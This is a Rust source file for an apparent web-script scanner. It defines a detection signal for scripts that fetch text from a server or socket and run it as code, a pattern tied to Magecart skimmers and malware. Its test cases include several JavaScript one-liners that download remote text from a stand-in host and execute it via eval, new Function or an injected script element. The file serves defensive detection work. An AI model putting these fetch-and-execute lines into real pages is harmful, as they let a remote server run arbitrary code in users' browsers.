//! `remote-code-run`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::taint::Sink;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "remote-code-run",
    description: "The script runs text from a server, a socket or another window as code.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::RemoteRun]), one(&[Atom::Eval, Atom::FunctionOfText, Atom::ScriptElement])],
    within: 24,
    only_if: Some(runs_code),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "fetch('https://c.example/a').then(r=>r.text()).then(c=>eval(c))",
            "fetch(u).then(r=>r.text()).then(eval)",
            "var s=new WebSocket('wss://c.example/');s.onmessage=function(e){eval(e.data)}",
            "fetch('https://c.example/a').then(r=>r.text()).then(c=>{const s=document.createElement('script');s.textContent=c;document.head.append(s)})",
            "async function go(){const r=await fetch(u);const t=await r.text();new Function(t)()}",
        ],
        without: &[
            "fetch('/a').then(r=>r.json()).then(d=>{list.textContent=d.name})",
            "addEventListener('message',e=>{if(e.data==='done')close()})",
            "var x=new XMLHttpRequest;x.open('GET','/a');x.onload=function(){var d=eval('('+x.responseText+')');show(d)};x.send()",
            "fetch('/sw').then(r=>r.text()).then(t=>{if(t!==old)location.reload()})",
        ],
    },
};

/// Whether there is anything but data that is read.
fn runs_code(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, 0);
    // The text of a script element is nothing but code.
    let first = evidence.flows.partition_point(|flow| flow.at < held.first);
    let mut flows = evidence.flows[first..].iter().take_while(|flow| flow.at <= held.last);
    let filled = flows.any(|flow| flow.sink == Sink::Shown);
    let mut runs = near.facts(Atom::Eval).chain(near.facts(Atom::FunctionOfText));
    filled || runs.any(|at| !near.reads_data(at))
}
